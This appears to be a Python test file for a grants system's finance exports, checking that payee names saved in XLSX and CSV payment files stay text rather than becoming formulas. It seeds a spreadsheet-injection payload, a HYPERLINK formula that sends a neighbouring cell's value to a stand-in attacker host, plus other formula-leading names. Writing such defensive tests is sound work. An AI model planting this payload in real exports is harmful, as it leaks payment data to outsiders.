"""Exports hold text as text: a formula-like or control-character name opens as what was typed."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from grants.models import Organization
from tests.support.finance import approved_apps, column_of

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"点此核对")'
NAMES = [FORMULA, "+86 乌鲁木齐", "-1+1", "@SUM(A1)", "铃声\x07公司"]


def _batch_with_names(as_user) -> tuple[object, list]:
    apps = approved_apps(as_user, len(NAMES), tag="X")
    for app, name in zip(apps, NAMES, strict=True):
        org = Organization.objects.get(pk=app.organization_id)
        # one organisation for all: give each award its own, named as an attacker would
        org.pk = None
        org.uscc = f"91650102MA{app.pk:07d}"[:17] + "X"
        org.name = name
        org.bank_account_name = name  # the payee as the bank holds it: typed by a person too
        org.save()  # stored before the boundary refused such names: the export must cope
        app.organization = org
        app.save(update_fields=["organization"])
    finance = as_user("finance")
    response = finance.post("/disbursements", {"awards": [a.pk for a in apps]})
    assert response.status_code == 201, response.content
    return finance, response.json()


def test_payment_file_xlsx_and_csv_hold_text_not_formulas(as_user):
    finance, batch = _batch_with_names(as_user)
    xlsx = finance.get(f"/disbursements/{batch['id']}/payment-file")
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    header = [c.value for c in sheet[1]]
    for column in ("收款人名称", "单位名称"):  # the account's name and the registered name
        i = column_of(header)[column]
        cells = {row[i].value: row[i] for row in sheet.iter_rows(min_row=2) if row[i].value}
        for name in NAMES:
            shown = name.replace("\x07", "\ufffd")
            assert shown in cells, (column, name, list(cells))
            assert cells[shown].data_type == "s"  # a string cell, never "f" (formula)

    text = finance.get(f"/disbursements/{batch['id']}/payment-file", format="csv").content
    table = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    for column in ("收款人名称", "单位名称"):
        names = [row[column_of(table[0])[column]] for row in table[1:-1]]
        assert "'" + FORMULA in names and "'+86 乌鲁木齐" in names and "'@SUM(A1)" in names
        assert "铃声\ufffd公司" in names
        assert not any(n.startswith(("=", "+", "-", "@")) for n in names)


def test_the_finance_export_with_such_names_opens(as_user):
    finance, _batch = _batch_with_names(as_user)
    response = finance.get("/finance/export")
    assert response.status_code == 200, response.content[:300]
    book = load_workbook(io.BytesIO(response.content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
